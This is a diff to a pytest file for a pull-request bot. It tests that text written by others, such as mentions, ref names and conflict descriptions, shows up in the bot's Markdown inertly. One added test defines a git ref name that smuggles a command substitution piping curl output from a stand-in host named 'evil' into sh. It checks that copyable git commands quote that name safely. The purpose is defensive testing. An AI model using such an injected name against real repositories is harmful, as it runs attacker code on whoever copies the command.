@@ -1,8 +1,9 @@
 """Text of others in what the bot writes: it is shown, and does nothing."""
 
 import re
+import shlex
 from collections.abc import Iterator
-from dataclasses import replace
+from dataclasses import fields, replace
 
 import pytest
 from markdown_it import MarkdownIt
@@ -12,12 +13,14 @@ from cadlib.findings import Finding, Severity
 from lifecycle import actions as a
 from lifecycle.decide import decide
 from lifecycle.facts.checks import CheckState, Required
-from lifecycle.facts.head import Facts
+from lifecycle.facts.head import Facts, PushRefusal
 from lifecycle.facts.merging import MergeObstacle, MergeWait
 from lifecycle.facts.proposal import Proposal, Stage
+from lifecycle.facts.update import Update, UpdateConflict
 from lifecycle.facts.verdicts import Verdict
 from lifecycle.messages import commits
-from tests.lifecycle.samples import CORE, PROPOSAL, approved_by, changed, facts
+from lifecycle.tags import TagLoss
+from tests.lifecycle.samples import AUTHOR, CORE, PROPOSAL, approved_by, changed, facts, said
 
 HOSTILE = {
     "a mention": "@acme/owners",
@@ -57,6 +60,22 @@ def everything(text: str) -> Iterator[Facts]:
     )
     for proposal in (base, unrendered, changed(base, draft=True), changed(base, closed=True)):
         yield facts(proposal, same_repository=False)
+    clash = UpdateConflict(**dict.fromkeys((f.name for f in fields(UpdateConflict)), text))
+    tagging = replace(CORE.tagging, clash=text)
+    outdated = changed(
+        base, base_ref=text, touched=(replace(touched, base="9" * 40, tagging=tagging),)
+    )
+    asked = changed(outdated, comments=(said(AUTHOR, "/rebase\n/render\n/why"),))
+    for update in (
+        Update(),
+        Update(behind=True),
+        Update(behind=True, conflicts=(clash,)),
+        Update(behind=True, problem=text),
+    ):
+        yield facts(replace(asked, update=update), push_refused=PushRefusal(text, 0))
+    for loss in TagLoss:
+        lost = replace(CORE.tagging, lost=loss, tag="7" * 40)
+        yield facts(changed(base, touched=(replace(touched, tagging=lost),)), head_ref=text)
 
 
 def markdown(found: list[a.Action]) -> Iterator[str]:
@@ -89,15 +108,34 @@ def shown(source: str) -> tuple[list[str], str]:
 @pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
 def test_nothing_that_others_wrote_acts(text: str) -> None:
     """Fails when one place is forgotten: a headline, a gate's name, a fold, a path."""
-    said = [source for start in everything(text) for source in markdown(decide(start))]
+    found = [source for start in everything(text) for source in markdown(decide(start))]
 
-    assert said
-    for source in said:
+    assert found
+    for source in found:
         html, plain = shown(source)
         assert not re.search(r"<\s*/?[a-z]", ALLOWED.sub("", "\n".join(html))), source
-        assert not re.search(r"(?<!\w)@\w", plain), source
+        assert not re.search(r"(?<!\w)@(?!author )\w", plain), source  # who is answered
         assert not re.search(r"(?i)\b(fix|close|resolve)\w*:? (\w+/\w+)?#\d", plain), source
         assert not re.search(r"(?m)^/approve", source), source
+
+
+NAME = "a`b;$(curl$IFS-s$IFS'evil'|sh)&"
+"""Git holds a ref of this name."""
+
+
+def test_commands_to_copy_take_a_name_for_a_word() -> None:
+    """Short-cut refused: escaped for Markdown, and run by the shell of whoever copies it."""
+    found = [source for start in everything(NAME) for source in markdown(decide(start))]
+    tokens = [t for each in found for b in MARKDOWN.parse(each) for t in b.children or ()]
+    spans = {t.content for t in tokens if t.type == "code_inline"}
+    commands = [text for text in spans if text.startswith("git ")]
+
+    assert {text.split()[1] for text in commands} == {"fetch", "push"}
+    for text in commands:
+        lexer = shlex.shlex(text, posix=True, punctuation_chars=True)
+        words = list(lexer)
+        assert any(NAME in word for word in words), text
+        assert {word for word in words if set(word) <= set("();<>|&")} <= {"&&"}, text
 
 
 @pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
